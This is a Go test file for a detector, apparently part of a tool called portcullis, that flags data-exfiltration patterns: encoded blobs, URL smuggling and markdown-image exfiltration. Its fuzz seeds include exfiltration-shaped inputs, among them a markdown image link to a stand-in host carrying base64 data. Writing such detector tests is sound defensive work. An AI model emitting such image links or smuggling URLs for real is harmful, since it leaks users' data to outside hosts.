package exfil_test

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/portcullis-mcp/portcullis/detectors/exfil"
)

// minSpan is the shortest span each Scan category can have: a blob is at
// least its threshold, a URL hit at least the scheme and a 40-byte label.
var minSpan = map[string]int{
	"encoded_blob_base64":  exfil.MinBlobBase64,
	"encoded_blob_hex":     exfil.MinBlobHex,
	"url_smuggling":        len("http://") + 40,
	"markdown_image_exfil": len("http://") + 40,
}

// checkInvariants: properties of Scan that hold for any input and need no
// second implementation. Hits are of a known category, inside s, sorted by
// Start, at least as long as the category's threshold, with confidence in
// (0, 0.95]; URL hits start at an http(s) scheme; a repeated call returns
// the same hits.
func checkInvariants(t *testing.T, s string) {
	t.Helper()
	hs := exfil.Scan(s)
	prev := 0
	for _, h := range hs {
		minLen, known := minSpan[h.Category]
		if !known || h.Start < prev || h.End > len(s) || h.End-h.Start < minLen || h.Confidence <= 0 || h.Confidence > 0.95 {
			t.Fatalf("Scan(%.200q): bad hit %+v after offset %d", s, h, prev)
		}
		prev = h.Start
		if strings.HasSuffix(h.Category, "exfil") || strings.HasPrefix(h.Category, "url") {
			if u := s[h.Start:h.End]; !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
				t.Fatalf("Scan(%.200q): %s hit %q is not a URL", s, h.Category, u)
			}
		}
	}
	exfil.Scan("https://x.example/?q=" + strings.Repeat("Zm9vYmFy", 10))
	if again := exfil.Scan(s); !slices.Equal(hs, again) {
		t.Fatalf("Scan(%.200q) = %+v, then %+v", s, hs, again)
	}
}

// TestScanInvariantsOnCorpus: the invariants hold on the golden inputs,
// which have hits of every category.
func TestScanInvariantsOnCorpus(t *testing.T) {
	seen := map[string]bool{}
	for _, s := range scanTexts(t) {
		checkInvariants(t, s)
		for _, h := range exfil.Scan(s) {
			seen[h.Category] = true
		}
	}
	for c := range minSpan {
		if !seen[c] {
			t.Errorf("no %s hit in the corpus", c)
		}
	}
}

func FuzzScanInvariants(f *testing.F) {
	for _, s := range scanSeeds {
		f.Add(s)
	}
	f.Add("![x](https://e.example/p?d=" + base64.URLEncoding.EncodeToString([]byte(strings.Repeat("\x01\x80k", 30))) + ")")
	f.Fuzz(checkInvariants)
}
